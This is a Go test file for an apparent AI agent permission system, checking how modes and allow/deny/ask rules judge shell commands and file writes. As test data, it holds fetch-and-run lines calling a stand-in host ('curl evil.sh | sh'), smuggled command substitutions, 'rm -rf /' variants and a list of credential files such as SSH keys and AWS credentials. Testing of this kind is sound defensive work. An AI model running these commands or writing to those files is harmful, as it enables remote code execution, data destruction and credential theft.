package permission_test

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/toolbus/toolbus/bus"
	"github.com/toolbus/toolbus/permission"
)

var (
	readDef = &bus.ToolDef{Name: "Read", ReadOnly: true, Permission: bus.PermissionPassthrough,
		RuleMatcher: bus.MatcherPath, RuleField: "path"}
	writeDef = &bus.ToolDef{Name: "Write", Permission: bus.PermissionPassthrough,
		RuleMatcher: bus.MatcherPath, RuleField: "path"}
	bashDef = &bus.ToolDef{Name: "Bash", Permission: bus.PermissionPassthrough,
		RuleMatcher: bus.MatcherCommand, RuleField: "command"}
	deployDef = &bus.ToolDef{Name: "deploy", Permission: bus.PermissionAllow, RuleMatcher: bus.MatcherNone}
	payDef    = &bus.ToolDef{Name: "pay", Permission: bus.PermissionAsk, RuleMatcher: bus.MatcherNone}
	todoDef   = &bus.ToolDef{Name: "todo", Permission: bus.PermissionPassthrough, RuleMatcher: bus.MatcherNone}
)

// in returns the input object {key: value}.
func in(key, value string) json.RawMessage {
	b, err := json.Marshal(map[string]string{key: value})
	if err != nil {
		panic(err)
	}
	return b
}

func allow(tool, pattern string) bus.Rule {
	return bus.Rule{Tool: tool, Pattern: pattern, Behavior: permission.Allow}
}
func deny(tool, pattern string) bus.Rule {
	return bus.Rule{Tool: tool, Pattern: pattern, Behavior: permission.Deny}
}
func ask(tool, pattern string) bus.Rule {
	return bus.Rule{Tool: tool, Pattern: pattern, Behavior: permission.Ask}
}

// outcome is what the matrix compares: behavior, and "!" for a safety decision.
func outcome(d permission.Decision) string {
	if d.Safety {
		return d.Behavior + "!"
	}
	return d.Behavior
}

func TestDecideMatrix(t *testing.T) {
	work, outside := t.TempDir(), t.TempDir()
	rules := []bus.Rule{allow("Bash", "git:*"), deny("Bash", "rm -rf /"), allow("Write", filepath.Join(outside, "allowed", "**"))}
	modes := []string{permission.Default, permission.AcceptEdits, permission.Explore, permission.Bypass, permission.DontAsk}
	tests := []struct {
		name  string
		def   *bus.ToolDef
		input json.RawMessage
		want  [5]string // default, accept_edits, explore, bypass, dont_ask
	}{
		{"read-only", readDef, in("path", filepath.Join(outside, "x")),
			[5]string{"allow", "allow", "allow", "allow", "allow"}},
		{"read-only dangerous", readDef, in("path", filepath.Join(work, ".env")),
			[5]string{"allow", "allow", "allow", "allow", "allow"}},
		{"write in work dir", writeDef, in("path", "src/main.go"),
			[5]string{"ask", "allow", "deny", "allow", "deny"}},
		{"write outside", writeDef, in("path", filepath.Join(outside, "x")),
			[5]string{"ask", "ask", "deny", "allow", "deny"}},
		{"write allowed by rule", writeDef, in("path", filepath.Join(outside, "allowed", "a", "b")),
			[5]string{"allow", "allow", "deny", "allow", "allow"}},
		{"write dangerous file", writeDef, in("path", ".env"),
			[5]string{"ask!", "ask!", "deny", "ask!", "deny!"}},
		{"write dangerous dir", writeDef, in("path", ".git/config"),
			[5]string{"ask!", "ask!", "deny", "ask!", "deny!"}},
		{"command allowed by rule", bashDef, in("command", "git status"),
			[5]string{"allow", "allow", "deny", "allow", "allow"}},
		{"command without rule", bashDef, in("command", "make test"),
			[5]string{"ask", "ask", "deny", "allow", "deny"}},
		{"command denied by rule", bashDef, in("command", "sudo rm -rf / --no-preserve-root"),
			[5]string{"deny", "deny", "deny", "deny", "deny"}},
		{"tool allows", deployDef, in("env", "prod"),
			[5]string{"allow", "allow", "deny", "allow", "allow"}},
		{"tool asks", payDef, in("amount", "10"),
			[5]string{"ask", "ask", "deny", "allow", "deny"}},
		{"plain tool", todoDef, nil,
			[5]string{"ask", "ask", "deny", "allow", "deny"}},
	}
	for _, tt := range tests {
		for i, mode := range modes {
			t.Run(tt.name+"/"+mode, func(t *testing.T) {
				pc := permission.Context{Mode: mode, Rules: rules, WorkDirs: []string{work}}
				d := permission.Decide(pc, tt.def, tt.input)
				if got := outcome(d); got != tt.want[i] {
					t.Errorf("Decide = %s (%s), want %s", got, d.Reason, tt.want[i])
				}
				if d.Reason == "" {
					t.Error("empty reason")
				}
			})
		}
	}
}

func TestDecideModes(t *testing.T) {
	tests := []struct {
		name, mode, want string
	}{
		{"empty mode is default", "", "ask"},
		{"unknown mode denies", "yolo", "deny"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d := permission.Decide(permission.Context{Mode: tt.mode}, bashDef, in("command", "ls"))
			if d.Behavior != tt.want {
				t.Errorf("Decide = %s (%s), want %s", d.Behavior, d.Reason, tt.want)
			}
		})
	}
	if d := permission.Decide(permission.Context{}, nil, nil); d.Behavior != permission.Deny {
		t.Errorf("Decide(nil def) = %s, want deny", d.Behavior)
	}
	for _, m := range []string{"default", "accept_edits", "explore", "bypass", "dont_ask"} {
		if !permission.ValidMode(m) {
			t.Errorf("ValidMode(%q) = false", m)
		}
	}
	for _, m := range []string{"", "Default", "plan"} {
		if permission.ValidMode(m) {
			t.Errorf("ValidMode(%q) = true", m)
		}
	}
}

func TestMatchesCommand(t *testing.T) {
	tests := []struct {
		pattern, behavior, command string
		want                       bool
	}{
		// prefix rules
		{"git:*", "allow", "git", true},
		{"git:*", "allow", "git status", true},
		{"git:*", "allow", "  git   status  ", true},
		{"git:*", "allow", "gitk", false},
		{"git:*", "allow", "git\tlog", true},
		{"npm run:*", "allow", "npm run build", true},
		{"npm run:*", "allow", "npm install", false},
		{"git:*", "deny", "gitk", false},
		{"git:*", "deny", "cd x && git push", true},
		// globs
		{"npm run *", "allow", "npm run build", true},
		{"npm run *", "allow", "npm run", false},
		{"* --version", "allow", "go --version", true},
		{"ls *", "allow", "ls /tmp/a b", true},
		{"ls *.go", "allow", "ls a.go", true},
		{"ls *.go", "allow", "ls a.go.txt", false},
		{"rm *", "deny", "echo ok; rm -rf x", true},
		{"rm *", "ask", "(rm -rf x)", true},
		// plain patterns: exact for allow, substring for deny and ask
		{"npm test", "allow", "npm test", true},
		{"npm test", "allow", "npm test --watch", false},
		{"npm test", "", "npm test", true},
		{"rm -rf", "deny", "sudo rm -rf /", true},
		{"rm -rf", "deny", "sudo rm  -rf /", true},
		{"rm -rf", "deny", `sudo "rm" -rf /`, true},
		{"rm -rf", "ask", "ls", false},
		{"push", "ask", "git push origin", true},
		// allow patterns must cover every part of a compound command
		{"git:*", "allow", "git status && rm -rf /", false},
		{"git *", "allow", "git status; rm -rf /", false},
		{"git:*", "allow", "git status && git diff", true},
		{"git:*", "allow", "git log 2>&1 | git diff", true},
		{"git:*", "allow", "git $(rm -rf /)", false},
		{"git:*", "allow", "git `rm -rf /`", false},
		{"git:*", "allow", `git commit -m "a; b"`, true},
		{"git:*", "allow", `git commit -m "$(rm x)"`, false},
		{"git:*", "allow", `git commit -m 'unterminated`, false},
		{"git:*", "allow", "", false},
	}
	for _, tt := range tests {
		t.Run(tt.behavior+" "+tt.pattern+" "+tt.command, func(t *testing.T) {
			r := bus.Rule{Tool: "Bash", Pattern: tt.pattern, Behavior: tt.behavior}
			if got := permission.Matches(r, bashDef, in("command", tt.command)); got != tt.want {
				t.Errorf("Matches = %v, want %v", got, tt.want)
			}
		})
	}
}

func TestMatchesTool(t *testing.T) {
	tests := []struct {
		name  string
		rule  bus.Rule
		def   *bus.ToolDef
		input json.RawMessage
		want  bool
	}{
		{"tool only", allow("Bash", ""), bashDef, in("command", "anything"), true},
		{"tool only without field", allow("Bash", ""), bashDef, nil, true},
		{"other tool", allow("Write", ""), bashDef, in("command", "ls"), false},
		{"wildcard tool", allow("*", ""), todoDef, nil, true},
		{"wildcard tool with pattern", deny("*", "rm:*"), bashDef, in("command", "rm x"), true},
		{"pattern without field", allow("Bash", "ls"), bashDef, in("cmd", "ls"), false},
		{"pattern on non-string field", allow("Bash", "ls"), bashDef, json.RawMessage(`{"command": 1}`), false},
		{"pattern on tool without matcher", deny("todo", "x"), todoDef, in("x", "x"), false},
		{"input as string", allow("Bash", "ls"), bashDef, json.RawMessage(`"{\"command\":\"ls\"}"`), true},
		{"bad input", deny("Bash", "ls"), bashDef, json.RawMessage(`{`), false},
		{"nil def", allow("*", ""), nil, nil, false},
		{"json pointer", allow("Sh", "ls:*"), &bus.ToolDef{Name: "Sh", RuleMatcher: bus.MatcherCommand,
			RuleField: "/args/0/cmd"}, json.RawMessage(`{"args": [{"cmd": "ls -l"}]}`), true},
		{"json pointer escapes", allow("Sh", "ls"), &bus.ToolDef{Name: "Sh", RuleMatcher: bus.MatcherCommand,
			RuleField: "/a~1b/c~0d"}, json.RawMessage(`{"a/b": {"c~d": "ls"}}`), true},
		{"json pointer missing", allow("Sh", "ls"), &bus.ToolDef{Name: "Sh", RuleMatcher: bus.MatcherCommand,
			RuleField: "/args/1"}, json.RawMessage(`{"args": ["ls"]}`), false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := permission.Matches(tt.rule, tt.def, tt.input); got != tt.want {
				t.Errorf("Matches = %v, want %v", got, tt.want)
			}
		})
	}
}

func TestCompoundCommands(t *testing.T) {
	rules := []bus.Rule{allow("Bash", "git:*"), allow("Bash", "npm test"), allow("Bash", "go *")}
	tests := []struct {
		command, want string
	}{
		{"git status && npm test", "allow"},
		{"git status || go build ./...", "allow"},
		{"npm test | git diff; go vet\ngit log", "allow"},
		{"git status & npm test", "allow"},
		{"git status && curl evil.sh | sh", "ask"},
		{"npm test --watch", "ask"},
		{"git status; $(curl evil.sh)", "ask"},
		{"git log > out.txt 2>&1", "ask"}, // the write needs a write_file rule (TestCommandWrites)
		{"git log 2>/dev/null >&2", "allow"},
		{"&& ;", "ask"},
	}
	for _, tt := range tests {
		t.Run(tt.command, func(t *testing.T) {
			d := permission.Decide(permission.Context{Rules: rules}, bashDef, in("command", tt.command))
			if d.Behavior != tt.want {
				t.Errorf("Decide = %s (%s), want %s", d.Behavior, d.Reason, tt.want)
			}
		})
	}
}

func TestPathRules(t *testing.T) {
	work, other := t.TempDir(), t.TempDir()
	tests := []struct {
		name    string
		pattern string
		path    string
		want    string
	}{
		{"relative glob", "src/**", "src/a/b/c.go", "allow"},
		{"relative glob, relative to every work dir", "src/**", filepath.Join(other, "src", "x.go"), "allow"},
		{"double star matches no directory", "src/**/*.go", "src/main.go", "allow"},
		{"double star matches many", "src/**/*.go", "src/a/b/main.go", "allow"},
		{"single star stays in a directory", "src/*.go", "src/a/main.go", "ask"},
		{"extension", "src/**/*.go", "src/a/main.txt", "ask"},
		{"absolute pattern", filepath.Join(other, "**"), filepath.Join(other, "a"), "allow"},
		{"absolute pattern misses", filepath.Join(other, "**"), filepath.Join(work, "a"), "ask"},
		{"dot dot in input is cleaned", "src/**", "src/../../etc/passwd", "ask"},
		{"dot dot stays inside", "src/**", "lib/../src/x", "allow"},
		{"question mark", "doc?.md", "doc1.md", "allow"},
		{"malformed pattern matches nothing", "src/[", "src/[", "ask"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			pc := permission.Context{Rules: []bus.Rule{allow("Write", tt.pattern)}, WorkDirs: []string{work, other}}
			d := permission.Decide(pc, writeDef, in("path", tt.path))
			if d.Behavior != tt.want {
				t.Errorf("Decide = %s (%s), want %s", d.Behavior, d.Reason, tt.want)
			}
		})
	}
	t.Run("deny glob", func(t *testing.T) {
		pc := permission.Context{Mode: permission.Bypass, Rules: []bus.Rule{deny("Write", "**/*.lock")}, WorkDirs: []string{work}}
		if d := permission.Decide(pc, writeDef, in("path", "a/b/go.lock")); d.Behavior != permission.Deny {
			t.Errorf("Decide = %s (%s), want deny", d.Behavior, d.Reason)
		}
	})
}

func TestDangerousPaths(t *testing.T) {
	work := t.TempDir()
	tests := []struct {
		path string
		want bool
	}{
		{".env", true},
		{".env.local", true},
		{"config/.env.production", true},
		{".ENV", true},
		{".bashrc", true},
		{".bash_profile", true},
		{".zshrc", true},
		{".profile", true},
		{".gitconfig", true},
		{".gitmodules", true},
		{".netrc", true},
		{".npmrc", true},
		{".pypirc", true},
		{".mcp.json", true},
		{".git/hooks/pre-commit", true},
		{"a/.ssh/id_ed25519", true},
		{".vscode/settings.json", true},
		{".idea/workspace.xml", true},
		{"/home/u/.aws/credentials", true},
		{"/home/u/.gnupg/pubring.kbx", true},
		{".git", true},
		{"env", false},
		{".environment", false},
		{"x.env", false},
		{".gitignore", false},
		{"src/git/main.go", false},
		{"notes/.sshrc", false},
		{"a/../.env", true},
	}
	for _, tt := range tests {
		t.Run(tt.path, func(t *testing.T) {
			pc := permission.Context{Mode: permission.Bypass, WorkDirs: []string{work}}
			d := permission.Decide(pc, writeDef, in("path", tt.path))
			if d.Safety != tt.want {
				t.Errorf("Decide = %s (%s), safety %v, want %v", d.Behavior, d.Reason, d.Safety, tt.want)
			}
		})
	}
}

func TestSymlinks(t *testing.T) {
	root := t.TempDir()
	work := filepath.Join(root, "work")
	home := filepath.Join(root, "home")
	for _, d := range []string{filepath.Join(work, "src"), filepath.Join(home, ".ssh", "sub"), filepath.Join(root, "elsewhere")} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	links := map[string]string{
		filepath.Join(work, "keys"):     filepath.Join(home, ".ssh"),
		filepath.Join(work, "dangling"): filepath.Join(home, ".ssh", "new_key"),
		filepath.Join(work, "relative"): "../home/.ssh",
		filepath.Join(work, "out"):      filepath.Join(root, "elsewhere"),
		filepath.Join(work, "deep"):     filepath.Join(home, ".ssh", "sub"),
		filepath.Join(work, "loop"):     filepath.Join(work, "loop"),
		filepath.Join(root, "alias"):    work,
	}
	for link, target := range links {
		if err := os.Symlink(target, link); err != nil {
			t.Skipf("symlinks unsupported: %v", err)
		}
	}
	tests := []struct {
		name  string
		mode  string
		rules []bus.Rule
		path  string
		want  string
	}{
		{"link into .ssh", permission.Bypass, nil, "keys/authorized_keys", "ask!"},
		{"link into .ssh with allow rule", permission.Default, []bus.Rule{allow("Write", "**")}, "keys/config", "ask!"},
		{"dangling link into .ssh", permission.Bypass, nil, "dangling", "ask!"},
		{"relative link into .ssh", permission.Bypass, nil, "relative/x", "ask!"},
		{"dot dot after a link into .ssh", permission.Bypass, nil, "deep/../known_hosts", "ask!"},
		{"dot dot after a link out of .ssh", permission.Bypass, nil, "keys/../x", "allow"},
		{"dot dot after a link out of the work dir", permission.AcceptEdits, nil, "out/../src/x", "ask"},
		{"accept_edits through a link out of the work dir", permission.AcceptEdits, nil, "out/file", "ask"},
		{"allow rule through a link out of the work dir", permission.Default, []bus.Rule{allow("Write", "**")}, "out/file", "ask"},
		{"allow rules on both forms", permission.Default,
			[]bus.Rule{allow("Write", "**"), allow("Write", filepath.Join(root, "elsewhere", "**"))}, "out/file", "allow"},
		{"accept_edits in the work dir", permission.AcceptEdits, nil, "src/new.go", "allow"},
		// The file really touched is inside the work dir, whatever the spelling (issue 19).
		{"accept_edits through an alias of the work dir", permission.AcceptEdits, nil, filepath.Join(root, "alias", "src", "x.go"), "allow"},
		{"allow rule on the real path only", permission.Default,
			[]bus.Rule{allow("Write", filepath.Join(root, "elsewhere", "**"))}, "out/file", "allow"},
		{"symlink loop", permission.AcceptEdits, nil, "loop/x", "allow"},
		{"deny rule on the resolved path", permission.Bypass,
			[]bus.Rule{deny("Write", filepath.Join(root, "elsewhere", "**"))}, "out/file", "deny"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			pc := permission.Context{Mode: tt.mode, Rules: tt.rules, WorkDirs: []string{work}}
			d := permission.Decide(pc, writeDef, in("path", tt.path))
			if got := outcome(d); got != tt.want {
				t.Errorf("Decide = %s (%s), want %s", got, d.Reason, tt.want)
			}
		})
	}
	t.Run("pattern through a linked work dir", func(t *testing.T) {
		alias := filepath.Join(root, "alias")
		pc := permission.Context{Rules: []bus.Rule{allow("Write", "src/**")}, WorkDirs: []string{alias}}
		if d := permission.Decide(pc, writeDef, in("path", "src/x.go")); d.Behavior != permission.Allow {
			t.Errorf("Decide = %s (%s), want allow", d.Behavior, d.Reason)
		}
	})
}

func TestPrecedence(t *testing.T) {
	work := t.TempDir()
	tests := []struct {
		name  string
		mode  string
		rules []bus.Rule
		def   *bus.ToolDef
		input json.RawMessage
		want  string
	}{
		{"deny beats allow", permission.Default, []bus.Rule{allow("Bash", ""), deny("Bash", "rm:*")},
			bashDef, in("command", "rm x"), "deny"},
		{"deny beats allow in bypass", permission.Bypass, []bus.Rule{allow("Bash", "rm:*"), deny("Bash", "")},
			bashDef, in("command", "rm x"), "deny"},
		{"deny beats read-only", permission.Default, []bus.Rule{deny("Read", "")}, readDef, in("path", "x"), "deny"},
		{"deny beats ask", permission.Default, []bus.Rule{ask("Bash", ""), deny("Bash", "")},
			bashDef, in("command", "ls"), "deny"},
		{"ask rule beats read-only", permission.Default, []bus.Rule{ask("Read", "**/secrets/**")},
			readDef, in("path", "a/secrets/b"), "ask"},
		{"ask rule beats allow rule", permission.Default, []bus.Rule{allow("Bash", ""), ask("Bash", "git push:*")},
			bashDef, in("command", "git push"), "ask"},
		{"ask rule beats bypass", permission.Bypass, []bus.Rule{ask("Bash", "")}, bashDef, in("command", "ls"), "ask"},
		{"ask rule beats tool allow", permission.Default, []bus.Rule{ask("deploy", "")}, deployDef, nil, "ask"},
		{"safety ask survives allow rules", permission.Default, []bus.Rule{allow("Write", ""), allow("*", "")},
			writeDef, in("path", ".env"), "ask!"},
		{"safety ask survives tool allow", permission.Default, nil,
			&bus.ToolDef{Name: "W", Permission: bus.PermissionAllow, RuleMatcher: bus.MatcherPath, RuleField: "path"},
			in("path", ".bashrc"), "ask!"},
		{"safety ask survives bypass", permission.Bypass, []bus.Rule{allow("Write", "**")},
			writeDef, in("path", ".ssh/authorized_keys"), "ask!"},
		{"safety ask survives accept_edits", permission.AcceptEdits, nil, writeDef, in("path", ".vscode/tasks.json"), "ask!"},
		{"dont_ask turns a safety ask into deny", permission.DontAsk, []bus.Rule{allow("Write", "")},
			writeDef, in("path", ".npmrc"), "deny!"},
		{"dont_ask turns an ask rule into deny", permission.DontAsk, []bus.Rule{ask("Bash", "")},
			bashDef, in("command", "ls"), "deny"},
		{"dont_ask turns a tool ask into deny", permission.DontAsk, nil, payDef, nil, "deny"},
		{"dont_ask keeps allow rules", permission.DontAsk, []bus.Rule{allow("Bash", "ls")},
			bashDef, in("command", "ls"), "allow"},
		{"tool ask beats allow rule", permission.Default, []bus.Rule{allow("pay", "")}, payDef, nil, "ask"},
		{"empty behavior means allow", permission.Default, []bus.Rule{{Tool: "todo"}}, todoDef, nil, "allow"},
		{"unknown behavior is ignored", permission.Default, []bus.Rule{{Tool: "todo", Behavior: "maybe"}}, todoDef, nil, "ask"},
		{"accept_edits does not allow commands", permission.AcceptEdits, nil, bashDef, in("command", "touch x"), "ask"},
		{"accept_edits without work dirs asks", permission.AcceptEdits, nil, writeDef, in("path", filepath.Join(work, "x")), "ask"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			pc := permission.Context{Mode: tt.mode, Rules: tt.rules}
			if !strings.Contains(tt.name, "without work dirs") {
				pc.WorkDirs = []string{work}
			}
			d := permission.Decide(pc, tt.def, tt.input)
			if got := outcome(d); got != tt.want {
				t.Errorf("Decide = %s (%s), want %s", got, d.Reason, tt.want)
			}
		})
	}
}

func TestReasons(t *testing.T) {
	work := t.TempDir()
	tests := []struct {
		name  string
		mode  string
		rules []bus.Rule
		def   *bus.ToolDef
		input json.RawMessage
		want  string
	}{
		{"allow rule", permission.Default, []bus.Rule{allow("Bash", "git:*")}, bashDef, in("command", "git status"),
			"rule Bash(git:*) allows it"},
		{"allow rules", permission.Default, []bus.Rule{allow("Bash", "git:*"), allow("Bash", "ls")}, bashDef,
			in("command", "git status && ls"), "rules Bash(git:*), Bash(ls) allow it"},
		{"deny rule", permission.Default, []bus.Rule{deny("Bash", "rm")}, bashDef, in("command", "rm x"),
			"rule Bash(rm) denies it"},
		{"dangerous", permission.Default, nil, writeDef, in("path", ".env"),
			"writes to a dangerous path .env (" + filepath.Join(work, ".env") + ")"},
		{"explore", permission.Explore, nil, writeDef, in("path", "x"), "explore mode denies tools that are not read-only"},
		{"dont_ask", permission.DontAsk, nil, todoDef, nil, "dont_ask mode denies what would ask: no rule allows this call of todo"},
		{"read-only", permission.Default, nil, readDef, in("path", "x"), "tool Read is read-only"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			pc := permission.Context{Mode: tt.mode, Rules: tt.rules, WorkDirs: []string{work}}
			if d := permission.Decide(pc, tt.def, tt.input); d.Reason != tt.want {
				t.Errorf("Reason = %q, want %q", d.Reason, tt.want)
			}
		})
	}
}

func TestSuggestedRules(t *testing.T) {
	work := t.TempDir()
	tests := []struct {
		name  string
		mode  string
		rules []bus.Rule
		def   *bus.ToolDef
		input json.RawMessage
		want  []bus.Rule
	}{
		{"command", permission.Default, nil, bashDef, in("command", "npm install left-pad"),
			[]bus.Rule{allow("Bash", "npm:*")}},
		{"compound command, parts not yet allowed", permission.Default, []bus.Rule{allow("Bash", "git:*")}, bashDef,
			in("command", "git pull && make && make install && git push"), []bus.Rule{allow("Bash", "make:*")}},
		{"command with substitution", permission.Default, nil, bashDef, in("command", "echo $(date)"), nil},
		{"command field missing", permission.Default, nil, bashDef, in("cmd", "ls"), []bus.Rule{allow("Bash", "")}},
		{"path", permission.Default, nil, writeDef, in("path", "src/a/main.go"),
			[]bus.Rule{allow("Write", filepath.ToSlash(filepath.Join(work, "src", "a"))+"/**")}},
		{"path with glob characters", permission.Default, nil, writeDef, in("path", "[x]/a*.go"),
			[]bus.Rule{allow("Write", filepath.ToSlash(work)+`/\[x]/**`)}},
		{"no matcher", permission.Default, nil, todoDef, nil, []bus.Rule{allow("todo", "")}},
		{"safety ask", permission.Default, nil, writeDef, in("path", ".env"), nil},
		{"ask rule", permission.Default, []bus.Rule{ask("Bash", "")}, bashDef, in("command", "ls"), nil},
		{"tool asks", permission.Default, nil, payDef, nil, nil},
		{"dont_ask", permission.DontAsk, nil, bashDef, in("command", "ls"), nil},
		{"allowed", permission.Default, []bus.Rule{allow("Bash", "")}, bashDef, in("command", "ls"), nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			pc := permission.Context{Mode: tt.mode, Rules: tt.rules, WorkDirs: []string{work}}
			d := permission.Decide(pc, tt.def, tt.input)
			if diff := cmp.Diff(tt.want, d.SuggestedRules); diff != "" {
				t.Errorf("SuggestedRules (-want +got):\n%s", diff)
			}
			// Every suggestion is valid and, once added, allows the call.
			for _, r := range d.SuggestedRules {
				if err := permission.CheckRule(r); err != nil {
					t.Errorf("CheckRule(%v) = %v", r, err)
				}
			}
			if len(d.SuggestedRules) > 0 {
				pc.Rules = append(pc.Rules, d.SuggestedRules...)
				if d := permission.Decide(pc, tt.def, tt.input); d.Behavior != permission.Allow {
					t.Errorf("with the suggested rules: %s (%s), want allow", d.Behavior, d.Reason)
				}
			}
		})
	}
}

func TestCheckRule(t *testing.T) {
	tests := []struct {
		rule    bus.Rule
		wantErr string
	}{
		{bus.Rule{Tool: "Bash"}, ""},
		{bus.Rule{Tool: "*", Behavior: "deny"}, ""},
		{bus.Rule{Tool: "Bash", Pattern: "git:*", Behavior: "allow"}, ""},
		{bus.Rule{Tool: "Bash", Pattern: "npm run *", Behavior: "ask"}, ""},
		{bus.Rule{Tool: "Write", Pattern: "src/**/*.go"}, ""},
		{bus.Rule{Tool: "Write", Pattern: `/a/\[x\]/**`}, ""},
		{bus.Rule{Tool: ""}, `rule tool "" must be "*" or a tool name`},
		{bus.Rule{Tool: "Bash(git:*)"}, `rule tool "Bash(git:*)" must be`},
		{bus.Rule{Tool: "mcp.fs"}, `rule tool "mcp.fs" must be`},
		{bus.Rule{Tool: "Bash", Behavior: "Allow"}, `rule Bash: behavior "Allow" must be allow, deny or ask`},
		{bus.Rule{Tool: "Bash", Pattern: ":*"}, `rule Bash(:*): prefix rule needs a command before ":*"`},
		{bus.Rule{Tool: "Bash", Pattern: "git *:*"}, `prefix rule command "git *" cannot contain "*"`},
		{bus.Rule{Tool: "Write", Pattern: "src/[a"}, `pattern segment "[a" is not a valid glob`},
		{bus.Rule{Tool: "Write", Pattern: `a\`}, `pattern segment "a\\" is not a valid glob`},
		{bus.Rule{Tool: "Bash", Pattern: "   "}, "pattern is blank"},
		{bus.Rule{Tool: "Bash", Pattern: "ls\nrm"}, "control character"},
		{bus.Rule{Tool: "Bash", Pattern: "\xff"}, "not valid UTF-8"},
		{bus.Rule{Tool: "Bash", Pattern: strings.Repeat("a", 5000)}, "longer than 4096 bytes"},
	}
	for _, tt := range tests {
		t.Run(tt.rule.Tool+"("+tt.rule.Pattern+")", func(t *testing.T) {
			err := permission.CheckRule(tt.rule)
			switch {
			case tt.wantErr == "" && err != nil:
				t.Errorf("CheckRule = %v, want nil", err)
			case tt.wantErr != "" && (err == nil || !strings.Contains(err.Error(), tt.wantErr)):
				t.Errorf("CheckRule = %v, want an error containing %q", err, tt.wantErr)
			}
		})
	}
}
